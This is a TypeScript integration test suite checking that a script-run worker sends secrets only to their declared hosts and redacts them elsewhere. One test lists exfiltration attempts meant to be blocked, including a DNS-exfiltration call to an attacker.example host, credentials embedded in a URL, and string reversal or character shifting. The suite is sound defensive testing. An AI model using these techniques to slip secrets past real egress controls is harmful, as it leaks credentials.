import { createHmac } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildCore, scriptWorkerDeps, type Core } from '../../src/cli/compose.js';
import {
  startScriptRunWorker,
  type RunningScriptWorker,
} from '../../src/workers/script-runs/worker.js';
import { startServer, type LocalServer } from '../net/local-server.js';
import { createTestContext, type TestContext } from '../support/app.js';
import { failure, success } from '../support/run-result.js';

const KEY = 'sk-live-7f3e9a1c55d24b08';
/** The reviewer's value: a WHATWG-encoded path turned it into a form no scanner knew. */
const PHRASE = 'Quiet Horse:Staple-88';
/** Non-ASCII, quotes and an emoji; upper-casing it was another way out. */
const UNI = `pässwört "Öl" 'x' 😀&=+%`;

/** Every form of each value a leak might take: as is, cased, encoded, reversed. */
function forms(value: string): string[] {
  return [
    value,
    value.toUpperCase(),
    value.toLowerCase(),
    [...value].reverse().join(''),
    encodeURIComponent(value),
    encodeURI(value),
    Buffer.from(value).toString('base64'),
    Buffer.from(value).toString('hex'),
    JSON.stringify(value).slice(1, -1),
  ];
}
const leaks = (text: string) =>
  [KEY, PHRASE, UNI].flatMap(forms).filter((form) => text.includes(form));

/**
 * Opaque secrets through a real worker and real HTTP servers on loopback: a script holds a
 * handle, the host puts the value in the one place its `# @secrets:` line admits and sends it only
 * to the hosts it names, on every hop. `bound` answers on 127.0.0.1, `other` stands for any other
 * host (reached as `localhost`).
 */
describe('secret destinations in script runs', () => {
  let t: TestContext;
  let core: Core;
  let worker: RunningScriptWorker;
  let bound: LocalServer;
  let other: LocalServer;
  let closedPort = 0;

  beforeAll(async () => {
    other = await startServer((_req, res) => res.end('other'));
    bound = await startServer((req, res) => {
      if (req.url?.startsWith('/hop')) {
        res.statusCode = 307;
        res.setHeader('location', `http://localhost:${other.port}/landed`);
        return res.end();
      }
      if (req.url?.startsWith('/echo-back')) return res.end(req.headers['x-key'] ?? '');
      return res.end('bound');
    });
    const closed = await startServer(() => undefined);
    closedPort = closed.port;
    await closed.close();
    t = await createTestContext(
      {
        'egress.allow': [
          `127.0.0.1:${bound.port}`,
          `127.0.0.1:${closedPort}`,
          `localhost:${other.port}`,
          `127.0.0.1:${other.port}`,
        ],
      },
      'secretdest',
    );
    core = await buildCore(t.ctx);
    await core.secrets.set('API_KEY', KEY);
    await core.secrets.set('PHRASE', PHRASE);
    await core.secrets.set('UNI', UNI);
    await core.redaction.refresh();
    worker = await startScriptRunWorker(t.ctx, scriptWorkerDeps(core));
  }, 60_000);
  afterAll(async () => {
    await worker?.close();
    await t?.close();
    await bound?.close();
    await other?.close();
  });

  const to = () => `127.0.0.1:${bound.port}`;
  const header = (place = '') =>
    [
      `# @secrets: API_KEY -> ${to()}${place}`,
      `# @secrets: PHRASE -> ${to()}`,
      `# @secrets: UNI -> ${to()}, 127.0.0.1:${closedPort}`,
      '',
    ].join('\n');
  const approved = async (name: string, body: string, head = header()) => {
    await core.scripts.create(
      name,
      `${head}def main():\n    k = secrets.get("API_KEY")\n    p = secrets.get("PHRASE")\n    u = secrets.get("UNI")\n${body}`,
      'admin',
    );
    await core.scripts.approve(name, 'admin');
  };
  const run = (name: string) => core.scriptRunner.run({ name, args: {}, origin: 'api' });
  const last = () => bound.requests.at(-1)!;

  it('puts the exact value in a header, the URL path and query, and the body', async () => {
    await approved(
      'ok.star',
      [
        `    r = http.get("${bound.url}/api", headers={"Authorization": "Bearer " + k})`,
        `    http.get("${bound.url}/p/" + p + "/" + u + "?q=" + u + "&p=" + p)`,
        `    http.post("${bound.url}/raw", body = "key=%s;" % k)`,
        `    http.post("${bound.url}/json", body = {"key": k, "nested": ["{}".format(u), p]})`,
        '    return {"body": r["body"], "k": k}',
        '',
      ].join('\n'),
    );
    const before = bound.requests.length;
    const res = await run('ok.star');
    expect(res).toMatchObject({ success: true, result: { body: 'bound', k: '<secret API_KEY>' } });
    const [auth, url, raw, json] = bound.requests.slice(before);
    expect(auth?.headers.authorization).toBe(`Bearer ${KEY}`);
    const sent = new URL(url!.url, bound.url);
    expect(sent.pathname).toBe(
      `/p/Quiet%20Horse:Staple-88/p%C3%A4ssw%C3%B6rt%20%22%C3%96l%22%20'x'%20%F0%9F%98%80&=+%25`,
    );
    expect(sent.pathname.split('/').map(decodeURIComponent)).toEqual(['', 'p', PHRASE, UNI]);
    expect(sent.searchParams.get('q')).toBe(UNI);
    expect(sent.searchParams.get('p')).toBe(PHRASE);
    expect(raw?.body).toBe(`key=${KEY};`);
    expect(JSON.parse(json!.body)).toEqual({ key: KEY, nested: [UNI, PHRASE] });
    expect(leaks(JSON.stringify(res))).toEqual([]);
  });

  it('sends Basic auth built with base64.encode("user:" + k), and a webhook signed with hmac', async () => {
    await approved(
      'signed.star',
      [
        '    body = json.encode({"event": "ping", "n": 1})',
        `    http.post("${bound.url}/basic", body = body, headers = {`,
        '        "Authorization": "Basic " + base64.encode("user:" + k),',
        '        "X-Signature": "sha256=" + hmac.sha256(k, body),',
        '        "X-Url-Safe": base64.encode(u, url_safe = True),',
        '    })',
        '    return {"sig": hmac.sha256(k, body), "b": base64.encode("user:" + k)}',
        '',
      ].join('\n'),
    );
    const res = await run('signed.star');
    const body = JSON.stringify({ event: 'ping', n: 1 });
    const signature = createHmac('sha256', KEY).update(body).digest('hex');
    expect(res).toMatchObject({
      success: true,
      result: { sig: signature, b: '<secret API_KEY>' },
    });
    const req = last();
    expect(req.body).toBe(body);
    const basic = /^Basic (.+)$/.exec(String(req.headers.authorization))?.[1] ?? '';
    expect(Buffer.from(basic, 'base64').toString('utf8')).toBe(`user:${KEY}`);
    expect(req.headers['x-signature']).toBe(`sha256=${signature}`);
    expect(Buffer.from(String(req.headers['x-url-safe']), 'base64url').toString('utf8')).toBe(UNI);
  });

  it('refuses every other host, in any place, before anything leaves', async () => {
    const before = other.requests.length;
    const otherUrl = `http://localhost:${other.port}`;
    const sends: Record<string, [string, string]> = {
      'query.star': [`http.get("${otherUrl}/?k=" + k)`, 'the url'],
      'path.star': [`http.get("${otherUrl}/" + p)`, 'the url'],
      'header.star': [`http.get("${otherUrl}/", headers={"X-Key": k})`, 'header x-key'],
      'body.star': [`http.post("${otherUrl}/", body="k=" + k)`, 'the body'],
      'dict.star': [`http.post("${otherUrl}/", body={"k": [k]})`, 'the body'],
      'basic.star': [
        `http.get("${otherUrl}/", headers={"Authorization": "Basic " + base64.encode("u:" + k)})`,
        'header authorization',
      ],
      // The other port of the same address is another destination.
      'port.star': [`http.get("http://127.0.0.1:${other.port}/" + k)`, 'the url'],
    };
    for (const [name, [call, place]] of Object.entries(sends)) {
      await approved(name, `    ${call}\n    return {"sent": True}\n`);
      const res = await run(name);
      expect(res.success, name).toBe(false);
      const host = name === 'port.star' ? `127.0.0.1:${other.port}` : `localhost:${other.port}`;
      expect(failure(res), name).toContain(
        `request to ${host} refused: it carries secret ${name === 'path.star' ? 'PHRASE' : 'API_KEY'} in ${place}, which may be sent only to 127.0.0.1:${bound.port}`,
      );
      expect(leaks(JSON.stringify(res)), name).toEqual([]);
    }
    expect(other.requests.length).toBe(before);
  });

  it('refuses a redirect to a host the secret is not bound to, sending nothing there', async () => {
    await approved(
      'redirect.star',
      `    http.get("${bound.url}/hop", headers={"X-Key": k})\n    return {}\n`,
    );
    const before = other.requests.length;
    const res = await run('redirect.star');
    expect(failure(res)).toContain(
      `request to localhost:${other.port} refused: it carries secret API_KEY in header x-key`,
    );
    expect(other.requests.length).toBe(before);
    expect(leaks(JSON.stringify(res))).toEqual([]);
  });

  it('admits a secret bound to a place only there, refusing any other place before sending', async () => {
    const head = header(' in header Authorization');
    await approved(
      'placed.star',
      `    return http.get("${bound.url}/in", headers={"authorization": "Bearer " + k})["body"]\n`,
      head,
    );
    expect(await run('placed.star')).toMatchObject({ success: true, result: { value: 'bound' } });
    const before = bound.requests.length;
    for (const [name, call, place] of [
      ['misplaced-url.star', `http.get("${bound.url}/x?key=" + k)`, 'the url'],
      ['misplaced-header.star', `http.get("${bound.url}/x", headers={"X-Key": k})`, 'header x-key'],
      ['misplaced-body.star', `http.post("${bound.url}/x", body={"key": k})`, 'the body'],
    ] as const) {
      await approved(name, `    ${call}\n    return {}\n`, head);
      const res = await run(name);
      expect(failure(res), name).toContain(
        `request to ${to()} refused: it carries secret API_KEY in ${place}, which its # @secrets: line admits only in header Authorization`,
      );
      expect(leaks(JSON.stringify(res)), name).toEqual([]);
    }
    expect(bound.requests.length).toBe(before);
  });

  it('sends a secret declared without destinations nowhere by default', async () => {
    await approved(
      'unbound.star',
      `    http.get("${bound.url}/?k=" + secrets.get("LOOSE"))\n    return {}\n`,
      `${header()}# @secrets: LOOSE\n`,
    );
    await core.secrets.set('LOOSE', 'loose-value-123456');
    const res = await run('unbound.star');
    expect(failure(res)).toMatch(/carries secret LOOSE in the url, which may be sent nowhere/);
  });

  it("leaks nothing through the reviewer's attacks: reverse, split, shift, per-character join, case", async () => {
    const attacks: Record<string, string> = {
      reverse: 'return {"x": k[::-1]}',
      split: 'return {"x": k.split("-")}',
      shift: 'return {"x": "".join([chr(ord(c) + 1) for c in k.elems()])}',
      'per-character join': 'return {"x": ",".join([c for c in k.elems()])}',
      'per-character loop':
        'out = []\n    for i in range(40):\n        out.append(k[i])\n    return out',
      'upper-case non-ASCII': 'return {"x": u.upper()}',
      'json then read': 'return {"x": json.decode(json.encode({"k": u}))}',
      'compare to guess': 'return {"x": k == "sk-live-7f3e9a1c55d24b08"}',
      'prefix test': 'return {"x": k.startswith("sk-")}',
      length: 'return {"x": len(k)}',
      'hmac of it under a known key': 'return {"x": hmac.sha256("known", k)}',
      'base64 round trip': 'return {"x": base64.decode(base64.encode(k))}',
      'error text': 'fail("boom " + k)',
      'send it to the URL fragment': `http.get("${bound.url}/#" + p)\n    return {}`,
      'DNS exfiltration': 'http.get("http://" + k + ".attacker.example/")\n    return {}',
      'as the user name': `http.get("http://" + k + "@127.0.0.1:${other.port}/")\n    return {}`,
    };
    const before = bound.requests.length + other.requests.length;
    for (const [what, body] of Object.entries(attacks)) {
      const name = `attack-${Object.keys(attacks).indexOf(what)}.star`;
      await approved(name, `    ${body}\n`);
      const res = await run(name);
      expect(res.success, what).toBe(false);
      expect(leaks(JSON.stringify(res)), what).toEqual([]);
      if (what === 'as the user name') {
        expect(failure(res), what).toMatch(/URLs with embedded credentials are not allowed/);
      } else if (what !== 'error text') {
        expect(failure(res), what).toMatch(/secrets? (API_KEY|PHRASE|UNI)/);
      }
    }
    expect(bound.requests.length + other.requests.length).toBe(before);
  });

  it('hands the script only a marker when a declared host echoes a secret back', async () => {
    // The declared host is honest but echoes the header it got (a debugging endpoint, an error
    // page quoting the request): its answer must not become a plain copy the script can send on.
    await approved(
      'echo.star',
      `    r = http.get("${bound.url}/echo-back", headers = {"X-Key": k})\n    http.post("http://localhost:${other.port}/relay", body = r["body"])\n    return {"body": r["body"]}\n`,
    );
    const res = await run('echo.star');
    expect(success(res)).toEqual({ body: '[REDACTED:API_KEY]' });
    expect(bound.requests.at(-1)?.headers['x-key']).toBe(KEY);
    const relayed = other.requests.at(-1)!;
    expect(relayed.url).toBe('/relay');
    expect(relayed.body).toBe('[REDACTED:API_KEY]');
    expect(leaks(relayed.body)).toEqual([]);
  });

  it('tells the administrator what to change when a script reads a value', async () => {
    await approved('reads.star', '    return k.upper()\n');
    const res = await run('reads.star');
    expect(failure(res)).toMatch(/\.upper: cannot read secret API_KEY/);
    expect(failure(res)).toMatch(/set scripts\.secret_values: plain in the configuration/);
  });

  it('keeps a secret URL out of the error of a request that fails', async () => {
    await approved(
      'unreachable.star',
      `    http.get("http://127.0.0.1:${closedPort}/p/" + u + "?q=" + u)\n    return {}\n`,
    );
    const res = await run('unreachable.star');
    expect(res.success).toBe(false);
    expect(failure(res)).toContain(
      `request to http://127.0.0.1:${closedPort}/p/<secret UNI>?q=<secret UNI> failed`,
    );
    expect(leaks(JSON.stringify(res))).toEqual([]);
  });

  it('reads the bindings from the approved source, not from the record beside it', async () => {
    await approved(
      'forged.star',
      `    http.get("http://localhost:${other.port}/" + k)\n    return {}\n`,
    );
    // A Redis writer widens the record's metadata; the source (and its hash) stay as approved.
    const record = await core.scripts.store.get('forged.star');
    const forged = {
      ...record!,
      metadata: {
        ...record!.metadata,
        secret_destinations: { API_KEY: [`localhost:${other.port}`] },
      },
    };
    await core.scripts.store.commit(forged);
    const before = other.requests.length;
    const res = await run('forged.star');
    expect(failure(res)).toContain(`request to localhost:${other.port} refused`);
    expect(other.requests.length).toBe(before);
  });

  it('shows the destinations in the detail, and a changed destination needs a new approval', async () => {
    const record = await core.scripts.store.get('ok.star');
    expect(record?.metadata.secrets).toEqual(['API_KEY', 'PHRASE', 'UNI']);
    expect(record?.metadata.secret_destinations).toMatchObject({ API_KEY: [to()] });
    const source = (record?.source ?? '').replace(to(), '*.attacker.example');
    await core.scripts.update('ok.star', source, 'mcp');
    const after = await core.scripts.store.get('ok.star');
    expect(after?.status).toBe('pending');
    expect(await run('ok.star')).toMatchObject({ success: false, refusal: 'modified' });
  });
});

/**
 * `scripts.secret_values: plain`, for scripts written before handles: they read values as
 * before, and the scan of each request (every encoding the redactor knows) keeps a value from
 * hosts it is not bound to.
 */
describe('secret values under scripts.secret_values: plain', () => {
  let t: TestContext;
  let core: Core;
  let worker: RunningScriptWorker;
  let bound: LocalServer;
  let other: LocalServer;

  beforeAll(async () => {
    other = await startServer((_req, res) => res.end('other'));
    bound = await startServer((_req, res) => res.end('bound'));
    t = await createTestContext(
      {
        'egress.allow': [`127.0.0.1:${bound.port}`, `localhost:${other.port}`],
        'scripts.secret_values': 'plain',
      },
      'secretplain',
    );
    core = await buildCore(t.ctx);
    await core.secrets.set('API_KEY', KEY);
    await core.redaction.refresh();
    worker = await startScriptRunWorker(t.ctx, scriptWorkerDeps(core));
  }, 60_000);
  afterAll(async () => {
    await worker?.close();
    await t?.close();
    await bound?.close();
    await other?.close();
  });

  it('gives the value, sends it where it is bound, and refuses it elsewhere in any case', async () => {
    const source = (call: string) =>
      `# @secrets: API_KEY -> 127.0.0.1:${bound.port}\ndef main():\n    k = secrets.get("API_KEY")\n    ${call}\n    return {"n": len(k)}\n`;
    await core.scripts.create(
      'plain-ok.star',
      source(`http.get("${bound.url}/?k=" + k.upper().lower())`),
      'admin',
    );
    await core.scripts.approve('plain-ok.star', 'admin');
    expect(
      await core.scriptRunner.run({ name: 'plain-ok.star', args: {}, origin: 'api' }),
    ).toMatchObject({
      success: true,
      result: { n: KEY.length },
    });
    expect(bound.requests.at(-1)?.url).toBe(`/?k=${KEY}`);
    await core.scripts.create(
      'plain-leak.star',
      source(`http.post("http://localhost:${other.port}/", body=k.upper())`),
      'admin',
    );
    await core.scripts.approve('plain-leak.star', 'admin');
    const res = await core.scriptRunner.run({ name: 'plain-leak.star', args: {}, origin: 'api' });
    expect(failure(res)).toMatch(/request to localhost:\d+ refused: it carries secret API_KEY/);
    expect(other.requests.length).toBe(0);
  });
});
